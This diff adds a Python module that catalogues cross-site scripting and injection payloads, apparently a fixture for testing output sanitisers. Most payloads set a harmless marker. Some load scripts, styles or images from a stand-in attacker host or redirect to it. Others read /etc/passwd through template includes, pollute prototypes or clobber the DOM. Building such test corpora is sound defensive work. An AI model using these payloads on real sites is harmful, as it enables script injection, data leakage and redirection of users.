@@ -1,0 +1,140 @@
+"""Known ways to break out of a page into HTML, Markdown, JavaScript or JSON. Each sets ``__xss`` if it runs."""
+
+RUN = "window.__xss=1"
+_EVENT_NAMES = """
+abort animationend animationstart auxclick beforecopy beforeinput beforetoggle blur canplay change click close
+contextmenu copy cuechange cut dblclick drag dragend dragenter dragover dragstart drop ended error focus
+focusin focusout formdata hashchange input invalid keydown keypress keyup load loadeddata loadstart message
+mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup pageshow paste pause play playing
+pointerdown pointerenter pointerover pointerrawupdate popstate progress ratechange reset resize scroll
+scrollend search select selectionchange selectstart show submit timeupdate toggle touchstart transitionend
+unhandledrejection volumechange waiting wheel
+"""
+_EVENTS = [f"on{name}" for name in _EVENT_NAMES.split()]
+_TAGS = ("img src=x", "svg", "video src=x", "input autofocus", "details open", "body", "marquee", "iframe src=x")
+_SCRIPTS = (
+    f"<script>{RUN}</script>",
+    f"<SCRIPT>{RUN}</SCRIPT>",
+    f"<script >{RUN}</script >",
+    f"<script/x>{RUN}</script>",
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    f"</script><script>{RUN}</script>",
+    f"--></script><script>{RUN}</script>",
+    f"<!--</script><script>{RUN}//-->",
+    f"]]></script><script>{RUN}</script>",
+    f"<![CDATA[<script>{RUN}</script>]]>",
+    f"<script type=module>{RUN}</script>",
+    f"<script src=data:text/javascript,{RUN}></script>",
+    "<script src=//evil.example/x.js></script>",
+    "<script src=https://evil.example/x.js></script>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><script href=data:,{RUN} />",
+    f"<math><mtext></mtext><script>{RUN}</script></math>",
+    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
+    f"<template><script>{RUN}</script></template>",
+    f"<style><!--</style><script>{RUN}</script>",
+    f"</title><script>{RUN}</script>",
+    f"</textarea><script>{RUN}</script>",
+    f"</style><script>{RUN}</script>",
+    f"</pre></code></div></main><script>{RUN}</script>",
+    f'"><script>{RUN}</script>',
+    f"'><script>{RUN}</script>",
+    f"`><script>{RUN}</script>",
+    f"%3Cscript%3E{RUN}%3C/script%3E",
+    f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    f"&#60;script&#62;{RUN}&#60;/script&#62;",
+    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
+    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
+    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
+    f"\ufeff<script>{RUN}</script>",
+    f"<\u200bscript>{RUN}</script>",
+    f"\u202e<script>{RUN}</script>",
+    f"\u2028<script>{RUN}</script>\u2029",
+    f"＜script＞{RUN}＜/script＞",  # noqa: RUF001 - wide brackets, which some normalise
+)
+_ADDRESSES = (
+    f"<a href=javascript:{RUN}>x</a>",
+    f'<a href=" javascript:{RUN}">x</a>',
+    f"<a href=java&Tab;script:{RUN}>x</a>",
+    f"<a href=&#106;avascript:{RUN}>x</a>",
+    f"<iframe src=javascript:{RUN}>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
+    f"<object data=javascript:{RUN}>",
+    f"<object data='data:text/html,<script>{RUN}</script>'>",
+    f"<embed src=javascript:{RUN}>",
+    f"<form action=javascript:{RUN}><button>x</button></form>",
+    f"<button formaction=javascript:{RUN} form=x>x</button>",
+    f"<math href=javascript:{RUN}>x</math>",
+    f"<svg><a href=javascript:{RUN}><text>x</text></a></svg>",
+    f"<svg><animate attributeName=href values=javascript:{RUN} /></svg>",
+    f"<svg><use href='data:image/svg+xml,<svg onload={RUN}>'></svg>",
+    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
+    "<base href=https://evil.example/>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<link rel=prefetch href=https://evil.example/>",
+    "<img src=https://evil.example/x.png>",
+    "<img srcset='https://evil.example/x.png 1x'>",
+    "<video poster=https://evil.example/x.png>",
+    "<audio src=https://evil.example/x.mp3>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<style>*{background:url(https://evil.example/x.png)}</style>",
+    "<div style='background:url(https://evil.example/x.png)'>",
+    "<div style='position:fixed;inset:0;background:red'>covered</div>",
+    f"<div style=width:expression({RUN})>",
+    "<form id=data><input name=textContent></form>",
+    "<a id=report name=report>clobbered</a>",
+    "<img name=getElementById>",
+)
+_MARKDOWN = (
+    f"[x](javascript:{RUN})",
+    f"[x](JaVaScRiPt:{RUN})",
+    f"[x](data:text/html,<script>{RUN}</script>)",
+    f"[x](vbscript:{RUN})",
+    f'![x](x "onerror={RUN}")',
+    f'![x"onerror="{RUN}](x)',
+    "![x](https://evil.example/x.png)",
+    f"<javascript:{RUN}>",
+    f"[x]: javascript:{RUN}\n[x]",
+    f"```html\n<script>{RUN}</script>\n```",
+    f"`<img src=x onerror={RUN}>`",
+    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
+    f"> <img src=x onerror={RUN}>",
+    f"<details><summary>x</summary><img src=x onerror={RUN}></details>",
+    f"$$\\href{{javascript:{RUN}}}{{x}}$$",
+)
+_CODE = (
+    f"';{RUN};'",
+    f'";{RUN};"',
+    f"`;{RUN};`",
+    f"${{{RUN}}}",
+    f"{{{{constructor.constructor('{RUN}')()}}}}",
+    f"{{{{7*7}}}}{{% if 1 %}}{RUN}{{% endif %}}",
+    f"{{% include '/etc/passwd' %}}{RUN}",
+    f"<%= {RUN} %>",
+    f"#{{{RUN}}}",
+    f'\\";{RUN}//',
+    f"\\';{RUN}//",
+    f"*/{RUN}/*",
+    f"\n{RUN}\n",
+    f'","x":{RUN}}}]}}</script><script>{RUN}</script>',
+    f'{{"__proto__": {{"__xss": "{RUN}"}}}}',
+    f"javascript:{RUN}",
+    f"alert(1);{RUN}",
+    "__proto__",
+    "constructor",
+    "\0<img src=x onerror=window.__xss=1>",
+)
+INJECTIONS = (
+    *_SCRIPTS,
+    *_ADDRESSES,
+    *_MARKDOWN,
+    *_CODE,
+    *(f"<{_TAGS[place % len(_TAGS)]} {event}={RUN}>" for place, event in enumerate(_EVENTS)),
+    *(f"\"'><{tag} onerror={RUN} onload={RUN} onfocus={RUN} ontoggle={RUN}>" for tag in _TAGS),
+    *(f'<{tag}/onerror="{RUN}"/onload="{RUN}"//' for tag in _TAGS),
+    *(f"{event}={RUN}" for event in _EVENTS[:12]),
+)
+NAMES = ("constructor", "toString", "javascript-alert-1", "onerror.alert", "hasOwnProperty", "script")
+"""Those that the grammar of names allows."""
